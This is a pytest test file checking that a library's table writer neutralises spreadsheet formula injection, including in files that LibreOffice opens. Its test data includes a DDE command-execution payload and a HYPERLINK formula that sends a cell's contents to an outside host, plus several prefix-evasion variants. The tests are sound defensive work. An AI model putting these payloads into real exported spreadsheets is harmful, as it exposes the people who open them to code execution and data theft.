"""No text in a table that nlpkit writes is a formula to the program that opens it, and none is lost."""

from __future__ import annotations

import shutil
import subprocess
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from nlpkit.errors import InputError
from nlpkit.files import read_table, write_table

TEXTS = [
    "=1+1",
    '=HYPERLINK("http://example.org/?x="&A1,"see")',
    "=cmd|' /C calc'!A0",
    "+44 20 7946 0000",
    "-2+3",
    "- a bullet",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "＝1+1",
    "＋1",
    "－1+2",
    "＠SUM(1)",
    "'=1+1",
    "''=1+1",
    "'quoted'",
    "a\rb",
    'a;"b",c\td\n=1+1',
    "a,=1+1",
    "\u202e=1+1",
    "-5",
    "+12.5%",
    "fine",
]


def table() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "row_id": [f"r{n}" for n in range(len(TEXTS))],
            "update": TEXTS,
            "novelty": [n / 100 - 0.1 for n in range(len(TEXTS))],
        }
    )


@pytest.mark.parametrize("ending", [".csv", ".tsv", ".xlsx", ".jsonl", ".parquet"])
def test_every_text_comes_back_as_it_was(ending: str, tmp_path: Path) -> None:
    write_table(table(), tmp_path / f"t{ending}")
    back = read_table(tmp_path / f"t{ending}")
    assert list(back["update"]) == TEXTS
    assert list(back["novelty"]) == pytest.approx(list(table()["novelty"]))
    write_table(back, tmp_path / f"again{ending}")
    assert (tmp_path / f"again{ending}").read_bytes() == (tmp_path / f"t{ending}").read_bytes()


def test_numbers_stay_numbers(tmp_path: Path) -> None:
    write_table(table(), tmp_path / "t.csv")
    assert "\nr0,'=1+1,-0.1\n" in (tmp_path / "t.csv").read_text(encoding="utf8")
    assert "\nr23,-5,0.13\n" in (tmp_path / "t.csv").read_text(encoding="utf8")
    write_table(table(), tmp_path / "t.xlsx")
    sheet = openpyxl.load_workbook(tmp_path / "t.xlsx").active
    assert [cell.data_type for cell in sheet["C"][1:]] == ["n"] * len(TEXTS)
    assert [cell.data_type for cell in sheet["B"]] == ["s"] * (len(TEXTS) + 1)


def test_the_guard_can_be_left_out(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("NLPKIT_FORMULAS", "keep")
    write_table(table(), tmp_path / "t.csv")
    assert "\nr0,=1+1,-0.1\n" in (tmp_path / "t.csv").read_text(encoding="utf8")
    assert list(read_table(tmp_path / "t.csv")["update"]) == TEXTS
    monkeypatch.setenv("NLPKIT_FORMULAS", "perhaps")
    with pytest.raises(InputError, match="NLPKIT_FORMULAS is 'perhaps'"):
        write_table(table(), tmp_path / "t.csv")


@pytest.mark.slow
@pytest.mark.parametrize(
    ("ending", "keep"), [(".csv", False), (".tsv", False), (".xlsx", False), (".csv", True)]
)
def test_a_spreadsheet_program_sees_texts(
    ending: str, keep: bool, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    office = shutil.which("soffice")
    if office is None:
        pytest.skip("LibreOffice (soffice) is not installed")
    if keep:
        monkeypatch.setenv("NLPKIT_FORMULAS", "keep")
    write_table(table(), tmp_path / f"t{ending}")
    # 9 or 44: what separates cells; 34: quotation marks; 76: UTF-8; the last: formulas are worked out.
    given = {
        name: [f"--infilter=CSV:{mark},34,76,1,,0,false,true,false,false,false,0,true"]
        for name, mark in ((".csv", 44), (".tsv", 9))
    }
    done = subprocess.run(
        [
            *(office, "--headless", f"-env:UserInstallation=file://{tmp_path}/profile"),
            *given.get(ending, []),
            *("--convert-to", "fods", "--outdir", str(tmp_path / "seen"), str(tmp_path / f"t{ending}")),
        ],
        capture_output=True,
        timeout=180,
        check=False,
    )
    seen = next(iter((tmp_path / "seen").glob("*.fods")), None)
    if seen is None:
        pytest.skip(f"LibreOffice did not convert: {done.stderr.decode()[-200:]}")
    content = seen.read_text(encoding="utf8")
    assert ("table:formula" in content) is keep  # kept: shows that the test would see one
    assert content.count('office:value-type="float"') >= len(TEXTS)
